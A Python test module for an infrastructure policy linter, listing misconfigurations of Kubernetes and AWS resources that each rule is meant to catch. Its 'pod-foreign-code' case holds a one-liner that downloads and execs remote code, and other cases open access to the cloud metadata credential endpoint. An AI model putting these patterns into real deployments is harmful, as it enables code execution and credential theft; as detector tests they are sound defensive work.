"""For each rule: edits of a good stack that it must find, and what happens when the property is left out.

Other spellings of the same mistakes are tried on our own stack (tests/graph/test_policy_kinds.py).
"""

import base64
from dataclasses import dataclass, replace
from typing import Any, Literal

from tests.unit.policies.good import ABSENT, GRANT, TLS_12, TLS_ONLY, TRUST, Path, Plain, document

RANDOM = base64.b64encode(bytes(range(7, 251, 6))).decode()
HEX = bytes((i * 37 + 11) % 256 for i in range(32)).hex()


@dataclass(frozen=True, kw_only=True)
class Edit:
    """One field of one resource (`resource` is its name in the stack) set to a value; an empty path removes it all."""

    resource: str
    path: Path
    value: Any = ABSENT
    stack: Literal["cluster", "cloud"] = "cluster"


Edits = tuple[Edit, ...]


@dataclass(frozen=True, kw_only=True)
class Case:
    """`bad` must be found by exactly this rule, and each of `more`. `absent` as well, unless `safe` says why the
    platform's own default is a good one. `also` are rules that see another side of the same mistake."""

    bad: Edit
    absent: Edit
    safe: str = ""
    more: Edits = ()
    also: frozenset[str] = frozenset()


def case(bad: Edits, *more: Edits, absent: Edits = (), safe: str = "", also: str = "") -> Case:
    """The first of all edits is `bad`. What is absent is the field of that one, unless another is named."""
    first, *others = (edit for edits in (bad, *more) for edit in edits)
    (gone,) = absent or (replace(first, value=ABSENT),)
    return Case(bad=first, absent=gone, safe=safe, more=tuple(others), also=frozenset(also.split()))


POD: Path = ("properties", "spec", "template", "spec")
CONTAINER: Path = (*POD, "containers", 0)
ROOTS: dict[str, Path] = {
    "type": ("type",),
    "protect": ("protect",),
    "properties": ("properties",),
    "pod": POD,
    "container": CONTAINER,
    "security": (*CONTAINER, "securityContext"),
}
"""What the first word of a path may stand for; any other one is a property."""


def words(path: str) -> Path:
    """The steps of a path, which is written as words."""
    return tuple(int(word) if word.isdigit() else word for word in path.split())


def steps(path: str) -> Path:
    """The same, of a path whose first word may stand for several."""
    first, _, rest = path.partition(" ")
    return (*ROOTS.get(first, ("properties", first)), *words(rest))


def on(names: str, paths: str, *values: Any, stack: Literal["cluster", "cloud"] = "cluster") -> Edits:
    """Sets fields of resources to each of the values; without one they are taken away. Commas stand between paths."""
    return tuple(
        Edit(resource=name, path=steps(path), value=value, stack=stack)
        for name in names.split()
        for path in paths.split(",")
        for value in values or (ABSENT,)
    )


def files(*tokens: str) -> Edits:
    """Makes the ConfigMap an object of another type."""
    return on("files", "type", *(f"kubernetes:{token}" for token in tokens))


def gone(name: str, *, cloud: bool = False) -> Edits:
    """Takes a whole resource away."""
    return (Edit(resource=name, path=(), stack="cloud" if cloud else "cluster"),)


def web(paths: str, *values: Any) -> Edits:
    return on("web", paths, *values)


def each(path: str, *values: Any) -> Edits:
    """The same edit for init and ephemeral containers; `path` is one of a container."""
    return web(f"pod initContainers 0 {path},pod ephemeralContainers 0 {path}", *values)


def aws(names: str, paths: str, *values: Any) -> Edits:
    return on(names, paths, *values, stack="cloud")


def contained(field: str, value: Any, *, safe: str = "", absent: str = "") -> Case:
    """A case about a field of a security context, for all three lists of containers."""
    left_out = absent or field
    fields = each(f"securityContext {field}", value)
    others = () if safe else each(f"securityContext {left_out}")
    return case(web(f"security {field}", value), fields, others, absent=web(f"security {left_out}"), safe=safe)


def variable(name: str, value: str) -> Plain:
    return {"name": name, "value": value}


def labelled(key: str, value: str) -> Plain:
    return {"matchLabels": {key: value}}


def expression(key: str, operator: str, *values: str) -> Plain:
    return {"matchExpressions": [{"key": key, "operator": operator, **({"values": [*values]} if values else {})}]}


def block(cidr: str) -> Plain:
    return {"ipBlock": {"cidr": cidr}}


def metadata(cidr: str, port: int = 80, **more: int) -> Plain:
    """An opening to where machines get their credentials."""
    return {"to": [block(cidr)], "ports": [{"port": port, "protocol": "TCP", **more}]}


def rights(group: str, resource: str, *verbs: str) -> Plain:
    """A rule of a role."""
    return {"apiGroups": [group], "resources": [resource], "verbs": list(verbs)}


def route(*matches: str) -> Edits:
    """The public route with another match."""
    return on("route", "spec routes 0 match", *matches)


def granting(**change: str) -> str:
    """The policy of a role, changed."""
    return document({**GRANT, **change})


def allowing(principal: Any) -> str:
    """A bucket's policy with a statement for somebody."""
    allowed = {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject"}
    return document(TLS_ONLY, TLS_12, {**allowed, "Resource": "arn:aws:s3:::shop-config/*"})


def trusting(**change: Any) -> str:
    """The trust of a role, changed."""
    return document({**TRUST, **change})


def tagged(key: str, value: Any) -> str:
    """The trust of a role with another condition."""
    return trusting(Condition={"StringEquals": {**TAGS, key: value}})


SAFE = "Kubernetes' default"
NAME, PART, PLACE = "app.kubernetes.io/name", "app.kubernetes.io/part-of", "kubernetes.io/metadata.name"
CONTROL_PLANE = "node-role.kubernetes.io/control-plane"
RETENTION = "persistentVolumeClaimRetentionPolicy"
HOST = "Host(`web.shop.test`)"
TAGS: Plain = TRUST["Condition"]["StringEquals"]
AGAIN: Edits = (Edit(resource="data", path=(), value={}),)
"""A second claim of the same identity."""

CASES: dict[str, Case] = {
    # --- Pod Security Standards
    "pod-host-process": case(
        web("pod securityContext windowsOptions,security windowsOptions", {"hostProcess": True}),
        absent=web("security windowsOptions", {}),
        safe=f"{SAFE} is false",
    ),
    "pod-host-namespaces": case(web("pod hostNetwork,pod hostPID,pod hostIPC", True), safe=f"{SAFE} is false"),
    "pod-privileged": contained("privileged", True, safe=f"{SAFE} is false"),
    "pod-capabilities-added": contained("capabilities add", ["SYS_ADMIN"], safe="none are added", absent="procMount"),
    "pod-host-path": case(
        web("pod volumes 0", {"name": "tmp", "hostPath": {"path": "/"}}),
        absent=web("pod volumes 0 emptyDir"),
        safe="a volume without a source is scratch space",
    ),
    "pod-host-ports": case(
        web("container ports 0 hostPort", 8080),
        web("pod initContainers 0 ports", [{"containerPort": 1, "hostPort": 1}]),
        absent=web("container ports 0 protocol"),
        safe="no port of the node is taken",
    ),
    "pod-probe-hosts": case(
        web("container readinessProbe httpGet host,container lifecycle preStop httpGet host", "169.254.169.254"),
        web("container lifecycle postStart", {"tcpSocket": {"host": "10.0.0.1", "port": 1}}),
        absent=web("container readinessProbe httpGet path"),
        safe="the pod's own address is asked",
    ),
    "pod-apparmor": case(
        web("security appArmorProfile,pod securityContext appArmorProfile", {"type": "Unconfined"}),
        web("spec template metadata annotations", {"container.apparmor.security.beta.kubernetes.io/web": "unconfined"}),
        absent=web("security appArmorProfile", {}),
        safe="the runtime's profile is used",
    ),
    "pod-selinux": case(
        web("pod securityContext seLinuxOptions type", "spc_t"),
        web("pod securityContext seLinuxOptions user", "system_u"),
        web("pod securityContext seLinuxOptions role", "sysadm_r"),
        absent=web("pod securityContext seLinuxOptions", {}),
        safe="the runtime's type is used",
    ),
    "pod-proc-mount": contained("procMount", "Unmasked", safe=f"{SAFE} is Default"),
    "pod-seccomp-off": case(
        web("pod securityContext seccompProfile type", "Unconfined"),
        web("security seccompProfile", {"type": "Unconfined"}),
        absent=web("security seccompProfile", {}),
        safe="the pod's profile is used; without one pod-seccomp-profile tells",
    ),
    "pod-sysctls": case(
        web("pod securityContext sysctls", [variable("kernel.msgmax", "65536")], [{"value": "1"}]),
        absent=web("pod securityContext sysctls", []),
        safe="nothing is set",
    ),
    "pod-volume-types": case(
        web("pod volumes 0", {"name": "tmp", "nfs": {"server": "nas", "path": "/"}}),
        absent=web("pod volumes 0 emptyDir"),
        safe="a volume without a source is scratch space",
    ),
    "pod-privilege-escalation": contained("allowPrivilegeEscalation", True),
    "pod-non-root": case(
        web("pod securityContext runAsNonRoot,security runAsNonRoot", False),
        each("securityContext runAsNonRoot", False),
    ),
    "pod-root-user": case(
        web("pod securityContext runAsUser,security runAsUser", 0),
        each("securityContext runAsUser", 0),
        safe="runAsNonRoot keeps an image from running as root",
    ),
    "pod-seccomp-profile": case(web("pod securityContext seccompProfile", {})),
    "pod-capabilities-dropped": contained("capabilities drop", ["NET_RAW"]),
    # --- pods
    "pod-read-only-root": contained("readOnlyRootFilesystem", False),
    "pod-image-version": case(
        web("container image", "docker.io/library/redis:latest", "redis@sha256:0123"),
        each("image", "docker.io/library/redis:8"),
        absent=web("container image", "docker.io/library/redis"),
    ),
    "pod-image-registry": case(
        web("container image", "registry.test/redis:8.10.2"),
        each("image", "docker.io/library-of-others/redis:8.10.2"),
        absent=web("container image", "redis:8.10.2"),
        safe="without a registry the runtime takes docker.io/library",
    ),
    "pod-resources": case(
        web("container resources requests cpu", "0"),
        web("container resources,container resources requests memory,pod initContainers 0 resources"),
        absent=web("container resources limits memory"),
    ),
    "pod-probes": case(
        web("container livenessProbe", {}),
        web("container readinessProbe"),
        web("pod initContainers 0 restartPolicy", "Always"),
    ),
    "pod-probe-ports": case(
        web("container livenessProbe httpGet port", "https"),
        web("container startupProbe", {"tcpSocket": {"port": 9999}}, {"grpc": {"port": 9999}}),
    ),
    "pod-service-account-token": case(
        web("pod automountServiceAccountToken", True),
        web("pod volumes 0", {"name": "tmp", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}),
    ),
    "pod-labels": case(web(f"metadata labels {PART}", ""), web("metadata labels")),
    "pod-secret-environment": case(
        web("container env 0", {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}),
        web("container envFrom", [{"secretRef": {"name": "s"}}]),
        absent=web("container env"),
        safe="nothing is in the environment",
        also="pod-references",
    ),
    # --- pods among each other
    "pod-shared-processes": case(
        web("pod shareProcessNamespace", True), absent=web("pod hostNetwork"), safe=f"{SAFE} is false"
    ),
    "pod-name-resolution": case(
        web("pod hostAliases", [{"ip": "203.0.113.1", "hostnames": ["cache"]}]),
        absent=web("pod hostNetwork"),
        safe="the cluster's DNS is asked",
    ),
    "pod-references": case(
        web(
            "pod volumes 0",
            {"name": "tmp", "secret": {"secretName": "gone"}},
            {"name": "tmp", "configMap": {"name": "gone"}},
            {"name": "tmp", "projected": {"sources": [{"secret": {"name": "gone"}}]}},
            {"name": "tmp", "secret": {"secretName": "certificate"}},
        ),
        web("pod imagePullSecrets", [{"name": "gone"}]),
        web("container envFrom", [{"configMapRef": {"name": "gone"}}], [{"secretRef": {"name": "gone"}}]),
        web("container env 0 valueFrom", {"configMapKeyRef": {"name": "gone", "key": "a"}}),
        absent=web("pod volumes 1 persistentVolumeClaim claimName"),
        also="pod-secret-environment volume-mounted",
    ),
    "pod-service-account": case(web("pod serviceAccountName", "cache", "default"), gone("web-account")),
    "pod-placement": case(
        web("pod tolerations", [{"operator": "Exists"}], [{"key": CONTROL_PLANE, "operator": "Exists"}]),
        web("pod schedulerName", "mine"),
        web("pod runtimeClassName", "host"),
        absent=web("pod hostNetwork"),
        safe="the scheduler decides",
    ),
    # --- what programs are told
    "pod-foreign-code": case(
        web(
            "container env 1",
            variable("JAVA_TOOL_OPTIONS", "-agentlib:jdwp=transport=dt_socket,server=y"),
            variable("NODE_OPTIONS", "--require /tmp/a.js"),
            variable("https_proxy", "http://proxy.test"),
        ),
        web(
            "container command",
            ["java", "-javaagent:/tmp/a.jar", "Main"],
            ["sh", "-ec", "apk add --no-cache bash"],
            ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://a').read())"],
            ["node", "https://a.test/a.mjs"],
        ),
        each("command", ["pip", "install", "thing"]),
        absent=web("container env"),
        safe="nothing is in the environment",
    ),
    "uploads-authorised": case(
        on("uploads", "container args 0", "--hooks-http=http://hook.shop.svc/hooks"),
        on("uploads", "container args,container args 7,container args 8"),
    ),
    "redis-configuration": case(
        on("redis", "data redis.conf", "maxmemory 1\nprotected-mode no\n", "cluster-enabled yes\nmaxmemory 1\n"),
        web("container command", ["redis-server", "--protected-mode", "no"]),
        absent=on("redis", "data"),
        safe="Redis is protected by itself",
    ),
    "gate-patterns": case(
        web(
            "container args",
            *(["--read=.*"], ["--read", "abc/.{3}"], ["--upload=abc/d"]),
            *(["--read=" + keys] for keys in ("abc/d|e", "abc/[a-z]+", "[a-z]{3}")),
        ),
        absent=web("container args", ["--upload=a::abc/d"]),
    ),
    # --- secrets
    "pod-secret-values": case(
        web("container env 0", variable("REDIS_PASSWORD", "correct horse")),
        web("container env 1 value", RANDOM, HEX, "redis://:horse@redis:6379"),
        web("container args", ["--authentication-key", "correcthorse"], ["--password=horse"]),
        web("container args", ["-Dstore.password=horse"]),
        web("container command", ["run", HEX]),
        each("env", [variable("apiKey", "horse")]),
        absent=web("container env 0 value"),
        safe="a variable without a value has no secret",
    ),
    "config-map-secret-values": case(
        on("files", "data shop.json", '{"database": {"password": "correct horse"}}'),
        on("files", "data shop.yaml", f"key: {RANDOM}\n", f"key: {HEX}\n"),
        on("files", "data shop.conf", "port 6379\nrequirepass horse\n"),
        on("files", "data shop.mjs", "const password = 'correcthorse'\n"),
        on("files", "data key.pem", "-----BEGIN EC PRIVATE KEY-----\n"),
        on("files", "data password", "horse"),
        on("files", "binaryData", {"shop.yaml": base64.b64encode(b"token: horse\n").decode()}),
        absent=on("files", "data"),
        safe="a ConfigMap without files has no secret",
    ),
    # --- objects and namespaces
    "object-namespace": case(on("files", "metadata namespace", "default")),
    "object-unique": case(AGAIN, absent=on("files", "metadata name"), safe="Pulumi makes a name that nothing else has"),
    "object-opaque": case(
        files("helm.cattle.io/v1:HelmChartConfig", "helm.sh/v3:Release", "core/v1:ConfigMapPatch"),
        on("binding", "type", "kubernetes:argoproj.io/v1alpha1:Application"),
        absent=on("task", "spec jobTemplate spec template spec containers"),
    ),
    "namespace-pod-security": case(
        on("namespace", "metadata labels pod-security.kubernetes.io/enforce", "privileged"), gone("namespace")
    ),
    # --- network
    "network-default-deny": case(
        on("deny", "spec podSelector", labelled(PART, "shop")), gone("emulators-deny"), absent=gone("deny")
    ),
    "network-pod-policy": case(
        on("task-policy", "spec policyTypes", ["Ingress"]),
        on("cache-policy", "spec policyTypes"),
        absent=gone("task-policy"),
    ),
    "network-orphan": case(
        on("web-policy", f"spec egress 1 to 0 podSelector matchLabels {NAME}", "cash"),
        on("cache-policy", "spec ingress 0 from 0 podSelector matchLabels x", "y"),
        absent=on("cache-policy", "spec ingress 0 from 0 namespaceSelector"),
        safe="a peer without a namespace is in the policy's own",
        also="ingress-backends network-agreement network-proxy",
    ),
    "network-wide": case(
        on("web-policy", "spec egress 1 to 0", *map(block, ("0.0.0.0/0", "2000::/3", "everywhere"))),
        on("web-policy", "spec egress 1 to 0", {"ipBlock": {}, "podSelector": {}}),
        on("web-policy", "spec egress 1 to,spec egress 1 to 0 podSelector"),
        on("web-policy", "spec egress 1 to 0 podSelector", expression(NAME, "In", "cache", "web")),
        absent=on("web-policy", "spec egress 1 ports"),
        also="ingress-backends network-agreement network-metadata network-pod-policy network-proxy",
    ),
    "network-agreement": case(
        on("cache-policy", "spec ingress 0 ports 0 port", 8081),
        on("task-policy", "spec egress"),
        on("web-policy", "spec egress 1 ports 0 protocol", "UDP"),
        on("cache-policy", "spec ingress 1 from 0 podSelector matchLabels", {NAME: "uploads"}),
        absent=on("cache-policy", "spec ingress 1"),
    ),
    "network-metadata": case(
        on("task-policy", "spec egress 1", metadata("169.254.169.254/32"), metadata("100.100.100.200/32")),
        on("task-policy", "spec egress 1", metadata("169.254.170.23/32", 8080)),
        on("task-policy", "spec egress 1", metadata("169.254.169.254/32", 53, endPort=80)),
        on("task-policy", "spec egress 1", metadata("169.254.170.23/32", 80, endPort=8080)),
        absent=on("task-policy", "spec egress"),
        safe="nothing is open",
        also="network-agreement network-wide",
    ),
    "network-proxy": case(
        on("web-policy", "spec ingress 0 ports 0 port", 8081),
        on("web-policy", "spec ingress 0 ports 1", {"port": 8081, "protocol": "TCP"}),
        absent=on("web-policy", "spec ingress 0 ports 0 protocol"),
        safe="TCP is meant",
        also="ingress-backends",
    ),
    # --- services and availability
    "service-selector": case(
        on("web-service", f"spec selector {NAME}", "wed"),
        on("web-service", "spec type", "ExternalName"),
        absent=on("web-service", "spec selector"),
        also="ingress-backends network-proxy",
    ),
    "service-target-port": case(
        on("web-service", "spec ports 0 targetPort", "https"),
        on("web-service", "spec ports 0 protocol", "UDP"),
        on("web-service", "spec ports 1", {"name": "other", "port": 9090}),
        absent=on("cloud-service", "spec ports 0 targetPort"),
        safe="the number of the Service's port is meant",
        also="ingress-backends network-proxy",
    ),
    "service-exposed": case(
        on("web-service", "spec type", "LoadBalancer", "NodePort"),
        on("web-service", "spec externalIPs", ["203.0.113.1"]),
        safe=f"{SAFE} is ClusterIP",
    ),
    "service-endpoints": case(
        files("discovery.k8s.io/v1:EndpointSlice", "core/v1:Endpoints"),
        absent=on("web-service", "spec type"),
        safe="Kubernetes writes them",
    ),
    "disruption-budget": case(
        on("cache-budget", f"spec selector matchLabels {NAME}", "cash"),
        on("cache-budget", "spec maxUnavailable", 0, ABSENT),
        on("cache-budget", "spec selector"),
        absent=gone("cache-budget"),
    ),
    # --- volumes
    "volume-protected": case(
        on("data", "protect", False),
        on("cache", f"spec {RETENTION} whenDeleted,spec {RETENTION} whenScaled", "Delete"),
    ),
    "volume-mounted": case(
        on("cache", "spec volumeClaimTemplates 0 metadata name", "store"),
        web("container volumeMounts"),
        web("pod volumes 1 persistentVolumeClaim claimName", "dada"),
        absent=on("cache", "container volumeMounts"),
        also="pod-references",
    ),
    "volume-one-writer": case(web("spec strategy type", "RollingUpdate"), absent=web("spec strategy")),
    # --- rights in the cluster
    "rbac-wildcards": case(
        on("role", "rules 0 verbs,rules 0 resources,rules 0 apiGroups", ["*"]),
        on("role", "aggregationRule", {"clusterRoleSelectors": [labelled("a", "b")]}),
        absent=on("role", "rules"),
        safe="a role without rules allows nothing",
    ),
    "rbac-broad-bindings": case(
        on("binding", "roleRef name", "cluster-admin", "system:node"),
        on("binding", "subjects 0", {"kind": "Group", "name": "system:authenticated"}),
        on("binding", "subjects 0", {"kind": "Group", "name": "system:serviceaccounts:shop"}),
        on("binding", "subjects 0 name", "default"),
        on("binding", "subjects 0 namespace", "elsewhere"),
        absent=on("binding", "roleRef"),
    ),
    "rbac-dangerous": case(
        on("role", "rules 0", rights("", "secrets", "get", "list")),
        on("role", "rules 0", rights("rbac.authorization.k8s.io", "rolebindings", "create")),
        absent=on("role", "rules"),
        safe="a role without rules allows nothing",
    ),
    "rbac-unneeded": case(
        on("role binding", "metadata name", "other"),
        absent=on("binding", "metadata name"),
        safe="the logical name is its name",
    ),
    "rbac-legacy-token": case(
        on("certificate", "properties type", "kubernetes.io/service-account-token"),
        on("web-account", "secrets", [{"name": "token"}]),
        safe="a Secret without a type is opaque; a route then tells",
        also="ingress-tls",
    ),
    "rbac-cluster-extension": case(
        files(
            "admissionregistration.k8s.io/v1:MutatingWebhookConfiguration",
            "apiregistration.k8s.io/v1:APIService",
            "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy",
        ),
        absent=gone("files"),
        safe="nothing is changed",
    ),
    # --- public edge
    "ingress-tls": case(
        on("https", "spec redirectScheme scheme", "http"),
        on("route", "spec tls secretName", ABSENT, "gone"),
        on("certificate", "properties type", "Opaque"),
        on("route", "spec entryPoints", ABSENT, ["web", "websecure"]),
        on("redirect", "spec routes 0 middlewares"),
        on("redirect", "spec routes 0 services", [{"name": "web", "port": 8080}]),
        gone("https"),
        absent=on("route", "spec tls"),
        also="ingress-backends ingress-headers ingress-limits ingress-scope",
    ),
    "ingress-tls-version": case(
        on("tls", "spec minVersion", "VersionTLS11"),
        on("route", "spec tls options"),
        gone("tls"),
        on("tls", "spec cipherSuites"),
        on("tls", "spec sniStrict"),
        files("traefik.io/v1alpha1:TLSStore"),
    ),
    "ingress-admin": case(
        on("route", "spec routes 0 services 0", {"kind": "TraefikService", "name": "api@internal"}),
        on("web-service", "spec ports 0 name", "admin"),
        absent=on("web-service", "spec ports 0 name"),
        safe="the name of the pods' port is looked at as well",
        also="network-proxy",
    ),
    "ingress-kinds": case(
        files("traefik.io/v1alpha1:IngressRouteUDP", "traefik.io/v1alpha1:TraefikService"),
        files("gateway.networking.k8s.io/v1:HTTPRoute"),
        absent=gone("files"),
        safe="there is no such object",
    ),
    "ingress-hosts": case(
        route("PathPrefix(`/`) && Method(`GET`)", "Host(`*`) && Method(`GET`) && Path(`/a`)"),
        also="ingress-scope tls-names",
    ),
    "ingress-backends": case(
        on("route", "spec routes 0 services 0 name", "cache", "gone"),
        on("route", "spec routes 0 services"),
        absent=on("route", "spec routes 0 services 0 port"),
        also="emulator-exposed network-proxy",
    ),
    "ingress-scope": case(
        route(
            f"{HOST} && Method(`GET`) && PathPrefix(`/`)",
            f"{HOST} && Method(`GET`) && PathRegexp(`^/shop|$`)",
            f"{HOST} && Method(`GET`) && !Path(`/shop`)",
            f"{HOST} && (Method(`GET`) && Path(`/shop`) || Method(`POST`))",
        ),
        absent=route(HOST),
    ),
    "ingress-limits": case(
        on("rate", "spec rateLimit average", 1_000_000_000, ABSENT),
        on("in-flight", "spec inFlightReq amount", 0),
        on("limits", "spec chain middlewares 1 name", "gone"),
        gone("rate"),
        absent=on("route", "spec routes 0 middlewares 0"),
    ),
    "ingress-headers": case(
        on("headers", "spec headers customRequestHeaders Forwarded", "for=a"),
        on("route", "spec routes 0 middlewares 1"),
        on("headers", "spec headers stsSeconds"),
        on("headers", "spec headers contentTypeNosniff,spec headers customRequestHeaders X-Proxied-Https"),
        also="ingress-trust",
    ),
    "ingress-trust": case(
        on("rate", "spec rateLimit sourceCriterion", {"ipStrategy": {"depth": 1}}),
        on("rate", "spec rateLimit sourceCriterion", {"ipStrategy": {"excludedIPs": ["10.0.0.0/8"]}}),
        on("https", "spec ipAllowList", {"sourceRange": ["0.0.0.0/0"]}),
        on("https", "spec forwardAuth", {"address": "https://auth.test"}),
        on("https", "spec redirectRegex", {"regex": ".*", "replacement": "https://a.test/"}),
        on("headers", "spec headers accessControlAllowOriginList", ["*"]),
        on("route", "spec routes 0 services 0 serversTransport", "gone"),
        absent=on("rate", "spec rateLimit burst"),
        safe="the address of the connection counts",
    ),
    # --- emulators
    "emulator-exposed": case(
        on("route", "spec routes 0 services 0", {"name": "cloud", "namespace": "shop-emulators", "port": 4566}),
        on("cloud-policy", f"spec ingress 0 from 0 namespaceSelector matchLabels {PLACE}", "kube-system"),
        absent=on("route", "spec routes 0 services 0 name"),
        safe="a route without a service leads to nowhere",
        also="ingress-backends network-agreement network-proxy",
    ),
    "emulator-in-cloud": case(
        aws("web", "container image", "docker.io/localstack/localstack:4.14.0"),
        absent=aws("table", "name"),
        safe="the type of a resource says that it is the cloud's",
    ),
    # --- DynamoDB
    "dynamodb-backup": case(
        aws("table", "pointInTimeRecovery enabled", False),
        aws("table", "pointInTimeRecovery recoveryPeriodInDays", 1),
        absent=aws("table", "pointInTimeRecovery"),
    ),
    "dynamodb-deletion-protection": case(aws("table", "deletionProtectionEnabled", False)),
    "dynamodb-encryption": case(
        aws("table", "serverSideEncryption enabled", False), absent=aws("table", "serverSideEncryption")
    ),
    "dynamodb-capacity": case(aws("table", "billingMode", "PROVISIONED")),
    "dynamodb-expiry": case(
        aws("table", "ttl", {"attributeName": "D", "enabled": True}, {"enabled": True}),
        absent=aws("table", "name"),
        safe="nothing expires",
    ),
    # --- S3
    "s3-public-access": case(
        aws("bucket-access", "blockPublicPolicy", False),
        gone("bucket-access", cloud=True),
        aws("bucket", "grants", [{"uri": "http://acs.amazonaws.com/groups/global/AllUsers"}]),
        absent=aws("bucket-access", "ignorePublicAcls"),
    ),
    "s3-tls-only": case(
        aws("bucket-policy", "policy", document({**TLS_ONLY, "Effect": "Allow"})),
        gone("bucket-policy", cloud=True),
        aws("bucket-policy", "policy", document({**TLS_ONLY, "Resource": "arn:aws:s3:::shop-config/*"})),
        aws("bucket-policy", "policy", document({**TLS_ONLY, "Condition": {}}), document(TLS_12)),
        also="s3-grants",
    ),
    "s3-grants": case(
        aws("bucket-policy", "policy", *map(allowing, ({"AWS": "999999999999"}, {"AWS": "*"}))),
        aws("bucket-policy", "policy", allowing({"Service": "cloudfront.amazonaws.com"})),
        absent=aws("bucket-policy", "policy", allowing(None)),
    ),
    "s3-expiry": case(
        aws("bucket-lifecycle", "rules 0 expiration", {"days": 1}, {"date": "2027-01-01T00:00:00Z"}),
        aws("bucket-lifecycle", "rules 0 noncurrentVersionExpiration", {"noncurrentDays": 1}),
        aws("bucket-lifecycle", "rules 0 transitions", [{"days": 1, "storageClass": "GLACIER"}]),
        absent=aws("bucket-lifecycle", "rules 0 filter", {}),
        safe="nothing is deleted",
    ),
    "s3-encryption": case(aws("bucket-encryption", "rules", []), absent=gone("bucket-encryption", cloud=True)),
    "s3-versioning": case(
        aws("bucket-versioning", "versioningConfiguration status", "Suspended"),
        absent=gone("bucket-versioning", cloud=True),
    ),
    "s3-lifecycle": case(
        aws("bucket-lifecycle", "rules 0 status", "Disabled"),
        gone("bucket-lifecycle", cloud=True),
        aws("bucket-lifecycle", "rules 0 filter", {"prefix": "a/"}),
        absent=aws("bucket-lifecycle", "rules 0 abortIncompleteMultipartUpload"),
    ),
    "s3-ownership": case(
        aws("bucket-ownership", "rule objectOwnership", "ObjectWriter"),
        gone("bucket-ownership", cloud=True),
        absent=aws("bucket-ownership", "rule"),
    ),
    # --- IAM
    "iam-wildcards": case(
        aws("grant", "policy", granting(Action="dynamodb:*"), granting(Resource="*")),
        aws("grant", "policy", document({"Effect": "Allow", "NotAction": "iam:*", "Resource": "arn:a:b:::c"})),
        aws("grant", "policy", document({"Effect": "Allow", "Action": "s3:GetObject"})),
        aws("grant", "policy", document({"Effect": "Allow", "Resource": "arn:aws:s3:::a/*"}), "no JSON"),
        aws("role", "managedPolicyArns", ["arn:aws:iam::aws:policy/ReadOnlyAccess"]),
        also="iam-data-only",
    ),
    "iam-data-only": case(
        aws("grant", "policy", granting(Action="iam:CreateAccessKey"), granting(Action="dynamodb:DeleteTable")),
        aws("grant", "policy", granting(Resource="arn:aws:dynamodb:eu-west-1:999999999999:table/accounts")),
        absent=aws("table", "name"),
        safe="a policy that is not there allows nothing",
    ),
    "iam-trust": case(
        aws("role", "assumeRolePolicy", trusting(Principal="*"), trusting(Condition={}), trusting(Action="sts:*")),
        aws("role", "assumeRolePolicy", tagged("aws:RequestTag/kubernetes-namespace", ["shop", "other"])),
        aws("role", "assumeRolePolicy", tagged("aws:SourceAccount", "999999999999")),
        aws("association", "serviceAccount", "cache"),
    ),
    "iam-access-keys": case(
        aws("access-key", "user", "somebody"),
        aws("access-key", "createDate", "2025-01-01T00:00:00Z", "long ago"),
        absent=aws("access-key", "createDate"),
        safe="a key that is being made has no date yet",
    ),
    # --- keys, caches and tags of AWS
    "kms-rotation": case(aws("kms", "enableKeyRotation", False)),
    "kms-policy": case(
        aws("kms", "policy", document({"Effect": "Allow", "Principal": "*", "Action": "kms:*"}), "{}"),
        aws("kms", "policy", document({"Effect": "Allow", "Principal": {"AWS": "999999999999"}})),
        absent=aws("kms", "deletionWindowInDays"),
        safe="AWS gives the key to its account",
    ),
    "kms-available": case(
        aws("kms", "isEnabled", False),
        aws("kms", "keyUsage", "SIGN_VERIFY"),
        absent=aws("kms", "deletionWindowInDays"),
        safe="AWS waits 30 days",
    ),
    "kms-account": case(
        aws("table", "serverSideEncryption kmsKeyArn", "arn:aws:kms:eu-west-1:999999999999:key/1"),
        safe="AWS takes a key of the account",
    ),
    "elasticache-failover": case(
        aws("redis", "multiAzEnabled", False),
        aws("redis", "automaticFailoverEnabled"),
        aws("redis", "replicasPerNodeGroup", 0, ABSENT),
    ),
    "elasticache-eviction": case(
        aws("parameters", "parameters 1 value", "allkeys-lru"),
        aws("redis", "parameterGroupName", "default.valkey8", ABSENT),
        absent=aws("parameters", "parameters 1"),
    ),
    "security-group-wide": case(
        aws("opening", "cidrIpv4", "0.0.0.0/0", "8.8.8.0/24"),
        aws("opening", "fromPort", 0),
        aws("opening", "toPort"),
        absent=aws("opening", "ipProtocol"),
    ),
    "cloud-data-protected": case(
        aws("table bucket kms redis instance groups", "protect", False), aws("bucket", "forceDestroy", True)
    ),
    "provider-options": case(
        aws("provider", "skipCredentialsValidation,insecure", "true"),
        aws("provider", "bigtableCustomEndpoint", "https://a.test"),
        absent=aws("provider", "allowedAccountIds"),
    ),
    "elasticache-transit": case(
        aws("redis", "transitEncryptionEnabled", False), aws("redis", "transitEncryptionMode", "preferred")
    ),
    "elasticache-rest": case(aws("redis", "atRestEncryptionEnabled", False)),
    "elasticache-authentication": case(
        aws("redis", "authToken", "", "password", "a" * 40),
        aws("redis", "type", "aws:elasticache/serverlessCache:ServerlessCache"),
    ),
    "aws-tags": case(aws("kms", "tags", {"project": "shop"})),
    # --- Bigtable
    "bigtable-deletion-protection": case(
        aws("groups", "deletionProtection", "UNPROTECTED"),
        aws("instance", "deletionProtection", False, ABSENT),
        aws("instance", "forceDestroy", True),
    ),
    "bigtable-backup": case(
        aws("groups", "automatedBackupPolicy retentionPeriod", "0"), absent=aws("groups", "automatedBackupPolicy")
    ),
    "bigtable-access": case(
        aws("member", "member", "allUsers", "user:somebody@example.org"),
        aws("member", "role"),
        aws("member", "type", "gcp:projects/iAMMember:IAMMember"),
    ),
    # --- certificates
    "tls-key": case(on("key", "ecdsaCurve", "P224"), on("rsa", "rsaBits", 1024), on("key", "algorithm", "DSA", ABSENT)),
    "tls-authority": case(
        on("authority", "maxPathLength", 3),
        on("authority", "isCaCertificate,setSubjectKeyId"),
        on("authority", "allowedUses", ABSENT, ["cert_signing", "server_auth"]),
        on("authority", "validityPeriodHours", ABSENT, 24 * 365 * 30),
    ),
    "tls-leaf": case(
        on("leaf", "validityPeriodHours", 87600),
        on("leaf", "allowedUses", ABSENT, ["any_extended", "server_auth"]),
    ),
    "tls-names": case(
        on("request", "dnsNames", ["*.other.test"]),
        route("Host(`web.shop.test`, `a.b.shop.test`)", "PathPrefix(`/`)"),
        also="ingress-hosts ingress-scope",
    ),
    # --- random secrets
